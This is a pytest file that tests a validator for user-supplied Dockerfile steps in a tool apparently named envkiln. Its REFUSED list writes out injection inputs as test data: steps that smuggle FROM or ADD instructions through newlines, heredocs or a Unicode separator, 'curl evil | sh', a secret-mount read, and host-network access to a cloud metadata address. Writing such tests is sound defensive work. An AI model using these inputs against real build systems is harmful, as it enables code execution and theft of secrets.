"""Docker steps are split with BuildKit's own parser (envkiln.core.models.buildkit, the parser Kaniko
vendors): each step is exactly one allowed instruction, and it reads the same between envkiln's lines."""

from __future__ import annotations

import pytest

from envkiln.core.definition import definition_hash
from envkiln.core.errors import DefinitionError
from envkiln.core.manifests import parse_environment
from envkiln.core.models import buildkit, check_docker_step
from envkiln.core.render import render
from helpers import CONDA_ENV, manifest, spec_of

# (case, step, what the message must say); each step is checked as spec.dockerSteps[0].
REFUSED: list[tuple[str, str, str]] = [
    # Several instructions, as BuildKit splits them.
    ("second-instruction", "RUN true\nFROM evil", "the step holds 2 instructions: line 1 does not end with '\\'"),
    ("second-instruction-lowercase", "RUN true\nfrom evil", "reads line 2 as another instruction (FROM)"),
    ("three-instructions", "ENV A=1\nENV B=2\nRUN x", "the step holds 3 instructions"),
    ("escaped-backslash-ends-the-line", "RUN echo \\\\\nADD https://evil/x /x",
     "line 1 does not end with '\\' (a single one: an escaped '\\\\' does not continue the line)"),
    ("continued-then-new-line", "RUN a \\\n b\nCOPY / /", "line 2 does not end with '\\'"),
    # BuildKit joins across a blank line inside a continuation; other parsers need not.
    ("blank-line-inside-continuation", "RUN a \\\n\nFROM evil", "line 2 of the step does not end with a single '\\'"),
    ("only-backslash-lines", "RUN a\\\n\\\nb", "line 2 of the step is empty"),
    # Instructions outside the allow-list, whatever their case or continuation.
    ("onbuild-continued", "ONBUILD RUN a \\\n && curl evil | sh", "ONBUILD is not allowed in docker steps"),
    ("onbuild-alone", "ONBUILD", "ONBUILD is not allowed"),
    ("onbuild-from", "OnBuild FROM evil", "ONBUILD is not allowed"),
    ("from-continued", "FROM \\\n evil", "FROM is not allowed"),
    ("copy-from-stage", "COPY --from=evil/image / /", "COPY is not allowed"),
    ("add-url", "ADD https://evil/x /x", "ADD is not allowed"),
    ("lone-backslash", "\\", "is not a Dockerfile instruction envkiln allows"),
    ("glued-keyword", "RUN\\\n echo", "the step starts with 'RUN\\\\'"),
    ("not-an-instruction", "curl evil | sh", "the step starts with 'CURL'"),
    # Heredocs read the following lines of the Dockerfile.
    ("heredoc-with-body", "RUN cat <<EOF\nFROM evil\nEOF", "starts a heredoc"),
    ("heredoc-command-after", "RUN <<EOF bash\nid\nEOF", "starts a heredoc"),
    ("heredoc-unterminated", "RUN cat <<EOF", "starts a heredoc"),
    ("heredoc-copy", "COPY <<EOF /etc/passwd\nx\nEOF", "COPY is not allowed"),
    ("shift-looks-like-heredoc", "RUN echo $((1<<2))", "parsers differ on other uses of '<<'"),
    # RUN options reach outside the image.
    ("run-mount-image", "RUN --mount=type=bind,from=evil/image,target=/x sh /x/run", "RUN options"),
    ("run-mount-secret", "RUN --mount=type=secret,id=push cat /run/secrets/push", "RUN options"),
    ("run-mount-cache", "RUN --mount=type=cache,target=/root/.cache pip install x", "RUN options"),
    ("run-network-host", "RUN --network=host curl http://169.254.169.254/", "the step gives RUN the options"),
    ("run-security-insecure", "run --security=insecure id", "--security=insecure"),
    # What BuildKit itself cannot read.
    ("label-without-value", "LABEL x", "BuildKit's Dockerfile parser cannot read the step: LABEL must have two"),
    ("env-without-value", "ENV A", "cannot read the step: ENV must have two arguments"),
    # Changing how the following lines are read.
    ("trailing-backslash", "ENV A=1 \\", "ends with '\\'"),
    ("trailing-backslash-after-continuation", "RUN a \\\n b \\", "ends with '\\'"),
    ("directive-inside-continuation", "RUN a \\\n# escape=`", "line 2 of the step is a comment or parser directive"),
    ("check-directive", "# check=skip=all", "line 1 of the step is a comment or parser directive"),
    ("unicode-line-separator", "RUN a\u2028FROM evil", "non-ASCII"),
]

ACCEPTED = [
    "run echo lowercase keywords are fine",
    "RUN echo a\\\\b",  # an escaped backslash inside a line
    "ENV A=1 \\\n    B=2",
    "HEALTHCHECK --interval=30s --timeout=3s CMD curl -f http://localhost/ || exit 1",
    'ENTRYPOINT ["python", "-m", "app"]',
    "RUN echo '#not a comment'",
    'LABEL a="x y"',
    "RUN echo 'a <b' && test 1 -lt 2",
    "STOPSIGNAL SIGTERM",
    "VOLUME /data",
    "USER 1000:1000",
    "ARG PIP_NO_CACHE_DIR=1",
    "EXPOSE 8080/tcp",
    "RUN set -e; \\\n    apt-get update; \\\n    rm -rf /var/lib/apt/lists/*",
]


@pytest.mark.parametrize(("step", "expected"), [(s, e) for _, s, e in REFUSED], ids=[c for c, _, _ in REFUSED])
def test_step_is_refused_naming_the_problem(step: str, expected: str) -> None:
    with pytest.raises(DefinitionError) as error:
        parse_environment(manifest(dockerSteps=[step]))
    problems = error.value.problems
    assert len(problems) == 1 and problems[0].startswith("spec.dockerSteps[0]: "), problems
    assert expected in problems[0], problems


@pytest.mark.parametrize("step", ACCEPTED)
def test_accepted_step_is_one_instruction_where_envkiln_put_it(step: str) -> None:
    assert check_docker_step(step) == step
    (alone,) = buildkit.parse(step.strip())
    spec = spec_of(manifest(CONDA_ENV, dockerSteps=["ENV FIRST=1", step]))
    instructions = buildkit.parse(render(spec, definition_hash(spec)).dockerfile)
    # FROM base AS envkiln-base, LABEL, then the steps in order, then the micromamba and install stages.
    assert instructions[3].identity == alone.identity
    assert [i.keyword for i in instructions[4:7]] == ["FROM", "FROM", "USER"]
    assert instructions[5].value == ("envkiln-base", "AS", "envkiln-install")


def test_the_parser_is_buildkits() -> None:
    """What a pattern would get wrong and BuildKit gets right: comments and blank lines inside a
    continuation are dropped, an escaped backslash does not continue, '<<WORD' starts a heredoc."""
    (joined,) = buildkit.parse("RUN a \\\n# dropped\n\n b")
    assert joined.original == "RUN a  b" and (joined.start_line, joined.end_line) == (1, 4)
    assert [i.keyword for i in buildkit.parse("RUN a \\\\\nFROM x")] == ["RUN", "FROM"]
    (heredoc,) = buildkit.parse("RUN cat <<EOF\nFROM x\nEOF\n")
    assert heredoc.heredocs == ("EOF",)
    (onbuild,) = buildkit.parse("onbuild run x")
    assert (onbuild.keyword, onbuild.sub_keyword) == ("ONBUILD", "RUN")
    assert buildkit.parse("") == [] and buildkit.parse("# only a comment\n\n") == []
    with pytest.raises(buildkit.DockerfileSyntaxError, match="unterminated heredoc"):
        buildkit.parse("RUN cat <<EOF")


def test_identity_ignores_where_an_instruction_stands() -> None:
    (first,) = buildkit.parse("RUN a")
    (second,) = buildkit.parse("\n\nRUN a")
    assert first.start_line != second.start_line and first.identity == second.identity
    (other,) = buildkit.parse("RUN  a")
    assert other.identity != first.identity
